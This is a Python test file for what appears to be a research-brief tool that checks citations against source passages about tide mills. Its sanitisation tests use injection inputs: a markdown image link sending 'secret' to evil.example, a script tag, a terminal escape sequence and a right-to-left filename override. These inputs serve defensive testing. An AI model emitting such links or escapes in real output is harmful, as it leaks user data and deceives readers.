"""Claims, quotes and passages: what holds gets a number, what does not is marked, always."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from udfs.core.brief import Version, compose, nothing_read, safe
from udfs.core.citations import Passage, checked_citation, checked_claim, stands_in

TEXT = (
    "A tide mill is a water mill driven by the rise and fall of the tide. “It is as old as "
    "bread,” says Holt. The wheel turns for 10 hours a day, at 1,200 litres a second."
)
PASSAGES = {"c1": Passage("c1", "http://mill.example/a", "The mill", TEXT)}
WORDS = st.text(alphabet=string.ascii_letters + string.digits + " .,'-", max_size=60)


@pytest.mark.parametrize(
    "quote",
    [
        "A tide mill is a water mill driven by the rise and fall of the tide.",
        "A  tide mill\nis a water mill",
        '"It is as old as bread," says Holt.',
        "“It is as old as bread,”",
        "A tide mill is a water mill … the rise and fall of the tide",
        "A tide mill [...] driven by the rise",
        "…driven by the rise and fall of the tide…",
    ],
)
def test_a_quote_stands_whatever_it_is_set_with(quote: str) -> None:
    assert checked_citation("c1", quote, PASSAGES).problem is None


@pytest.mark.parametrize(
    ("chunk_id", "quote", "problem"),
    [
        ("c1", "A tide mill is a windmill driven by the rise", "does not stand"),
        ("c1", "the tide … A tide mill is a water mill", "does not stand"),
        ("c1", "the", "too short"),
        ("c1", "", "too short"),
        ("c1", None, "too short"),
        ("c2", "A tide mill is a water mill", "no search of this run"),
        ("", "A tide mill is a water mill", "no search of this run"),
        (None, None, "no search of this run"),
    ],
)
def test_45_what_is_invented_does_not_hold(
    chunk_id: str | None, quote: str | None, problem: str
) -> None:
    assert problem in str(checked_citation(chunk_id, quote, PASSAGES).problem)


def test_a_figure_or_quotation_that_the_source_lacks_is_marked() -> None:
    quote = "The wheel turns for 10 hours a day"
    assert checked_claim("It turns 10 hours a day.", [("c1", quote)], PASSAGES).doubts == []
    assert checked_claim("It moves 1200 litres.", [("c1", quote)], PASSAGES).doubts == []
    doubted = checked_claim("It turns 14 hours, at 3,000 litres.", [("c1", quote)], PASSAGES)
    assert doubted.doubts == ["not in its source: 14, 3000"]
    said = 'Holt says "it is far older than bread itself".'
    assert "quotation" in checked_claim(said, [("c1", quote)], PASSAGES).doubts[0]


@given(WORDS, WORDS, WORDS)
def test_every_part_of_a_text_stands_in_it(before: str, quote: str, after: str) -> None:
    assert stands_in(quote, f"{before} {quote} {after}")


@given(st.lists(WORDS, min_size=1, max_size=4), WORDS)
def test_what_holds_is_in_the_passage_word_for_word(quotes: list[str], text: str) -> None:
    passages = {"c": Passage("c", "u", "t", text)}
    claim = checked_claim("A claim.", [("c", quote) for quote in quotes], passages)
    for citation in claim.proven:
        spaced = " ".join(citation.quote.split()).strip("' ")
        assert spaced.split("...")[0].strip() in " ".join(text.split())


def version(**changes: object) -> Version:
    values: dict[str, object] = {
        "topic": "Tide mills",
        "guest_name": None,
        "company": None,
        "version": 1,
        "questions_wanted": None,
        "expected": 1,
        "sources": [{"url": "http://mill.example/a", "title": "The mill", "kind": "page"}],
        "missing": [],
        "changes": [],
        "mined_questions": [],
    }
    return Version(**{**values, **changes})  # type: ignore[arg-type]


def draft(text: str, *cited: tuple[str, str]) -> list[dict[str, object]]:
    citations = [{"chunk_id": chunk_id, "quote": quote} for chunk_id, quote in cited]
    return [{"heading": "What it is", "claims": [{"text": text, "citations": citations}]}]


ROWS = [{"chunk_id": "c1", "url": "http://mill.example/a", "title": "The mill", "text": TEXT}]
QUOTE = "A tide mill is a water mill driven by the rise and fall of the tide."


def test_a_claim_has_its_number_and_the_number_its_source() -> None:
    made = compose(version(), draft("Tides drive it.", ("c1", QUOTE)), [], ROWS)
    assert "- Tides drive it. [1]" in made["brief"]
    assert f"1. The mill, <http://mill.example/a>: “{QUOTE}”" in made["brief"]
    assert made["citations"][0]["number"] == 1 and made["citations"][0]["verified"]
    assert made["coverage"]["claims_proven"] == 1


def test_a_claim_without_a_source_is_marked_and_an_invented_one_dropped() -> None:
    made = compose(version(), draft("It flies."), [], ROWS)
    assert "- It flies. *(no source)*" in made["brief"]
    made = compose(version(), draft("It flies.", ("c1", "It can fly by itself.")), [], ROWS)
    assert "*(the source that it named does not bear it out)*" in made["brief"]
    assert [c["verified"] for c in made["citations"]] == [False]
    assert made["citations"][0]["number"] is None
    assert made["coverage"]["citations_dropped"] == 1
    assert made["coverage"]["claims_without_source"] == 1


def test_62_a_passage_of_another_bundle_is_no_source() -> None:
    made = compose(version(), draft("It flies.", ("other", QUOTE)), [], ROWS)
    assert made["coverage"]["claims_proven"] == 0


def test_60_no_text_becomes_a_link_an_image_or_html() -> None:
    image, link = "![x](http://evil.example/?q=secret)", "[click](http://evil.example)"
    evil = f"{image} {link} <img src=x> www.evil.example"
    rows = [{**ROWS[0], "title": "<script>alert(1)</script>"}]
    changes = {"topic": evil, "guest_name": evil, "mined_questions": [f"{evil}?"]}
    made = compose(version(**changes), draft(evil, ("c1", QUOTE)), [{"question": evil}], rows)
    brief = made["brief"]
    assert "evil.example" not in brief
    assert "![" not in brief.replace("\\[", "") and "](" not in brief
    assert "<img" not in brief.replace("\\<img", "") and "<script" not in brief.replace("\\<s", "")


def test_25_no_escape_or_direction_of_a_page_comes_into_the_file() -> None:
    evil = "Mills\x1b]0;owned\x07 \u202egnp.exe\u200b"
    rows = [{**ROWS[0], "title": evil, "url": f"http://mill.example/{evil}"}]
    made = compose(version(topic=evil), draft(f"It {evil}.", ("c1", QUOTE)), [], rows)
    assert not {"\x1b", "\x07", "\u202e", "\u200b"} & set(made["brief"])


def test_an_address_that_is_a_source_may_be_named() -> None:
    known = "http://mill.example/a"
    assert safe(f"See {known}.", [known]) == f"See {known}."
    assert safe("See http://other.example.", [known]) == "See (link removed)"


def test_a_partial_brief_says_what_is_missing_and_the_next_what_is_new() -> None:
    missing = [{"url": "http://mill.example/b", "reason": "http_404"}]
    brief = compose(version(missing=missing, expected=2), [], [], [])["brief"]
    assert "**This brief is partial:** 1 source is missing" in brief
    assert "- Missing: <http://mill.example/b> (http_404)" in brief
    changes = [{"url": "http://mill.example/a", "what": "changed"}]
    brief = compose(version(version=2, changes=changes), [], [], [])["brief"]
    assert "## New since version 1\n\n- changed: The mill, <http://mill.example/a>" in brief


def test_a_bundle_with_no_reachable_source_has_a_brief_that_says_so() -> None:
    missing = [{"url": "http://mill.example/b", "reason": "robots_denied"}]
    made = nothing_read(version(sources=[], missing=missing))
    assert "None of the sources could be read" in made["brief"]
    assert made["questions"] == [] and made["citations"] == []


def test_questions_go_from_introduction_to_depth_each_once_and_as_many_as_wanted() -> None:
    written = [
        {"question": "Where are its limits?", "depth": "depth"},
        {"question": "What is a tide mill?", "depth": "introduction"},
        {"question": "what is a  tide mill", "depth": "detail"},
    ]
    mined = [f"What about part {n}?" for n in range(40)]
    made = compose(version(mined_questions=mined), [], written, [])["questions"]
    assert len(made) == 18
    assert (made[0], made[-1]) == ("What is a tide mill?", "Where are its limits?")
    made = compose(version(mined_questions=mined, questions_wanted=5), [], written, [])
    assert len(made["questions"]) == 5
